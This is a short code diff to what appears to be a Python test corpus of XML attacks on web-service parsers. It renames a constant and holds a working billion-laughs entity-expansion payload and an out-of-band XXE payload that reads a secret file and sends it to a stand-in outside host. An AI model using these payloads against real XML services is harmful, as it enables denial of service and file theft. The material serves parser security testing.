@@ -8,7 +8,7 @@ from messages import MARK, Call, envelope
 from rows.attack import ELSEWHERE, OURS, OWASP, SECRET_FILE, SPYNE, WS_ATTACKER, WS_ATTACKS, Attack, Category
 from rows.shapes import after_doctype, for_mark
 
-_LAUGHS = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
+LAUGHS = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
 _OUT_OF_BAND = (
     f'[<!ENTITY % f SYSTEM "{SECRET_FILE}"><!ENTITY % d SYSTEM "{ELSEWHERE}/out.dtd">%d;'
     f"<!ENTITY % all \"<!ENTITY send SYSTEM '{ELSEWHERE}/?%f;'>\">%all;]"
@@ -22,7 +22,7 @@ def _inner(document: str) -> object:
 
 
 def _laughing_attribute(call: Call) -> str:
-    return f"<!DOCTYPE x [{_LAUGHS}]>" + envelope(call.element.replace(" xmlns:", ' a="&a11;" xmlns:', 1))
+    return f"<!DOCTYPE x [{LAUGHS}]>" + envelope(call.element.replace(" xmlns:", ' a="&a11;" xmlns:', 1))
 
 
 ROWS = (
@@ -136,7 +136,7 @@ ROWS = (
         "billion laughs in text",
         "entities of entities, ten times ten, eleven deep",
         WS_ATTACKER,
-        after_doctype(f"[{_LAUGHS}]", "&a11;"),
+        after_doctype(f"[{LAUGHS}]", "&a11;"),
         "Client",
     ),
     Attack(
@@ -150,7 +150,7 @@ ROWS = (
         "billion laughs declared only",
         "the same, never referred to",
         WS_ATTACKS,
-        after_doctype(f"[{_LAUGHS}]"),
+        after_doctype(f"[{LAUGHS}]"),
         "Client",
     ),
     Attack(
@@ -253,7 +253,7 @@ ROWS = (
         "inner billion laughs",
         "in the document inside the connector's string",
         OURS,
-        _inner(f"<!DOCTYPE x [{_LAUGHS}]><SSDNRequest>&a11;</SSDNRequest>"),
+        _inner(f"<!DOCTYPE x [{LAUGHS}]><SSDNRequest>&a11;</SSDNRequest>"),
         "000050",
         _CONNECTOR,
     ),
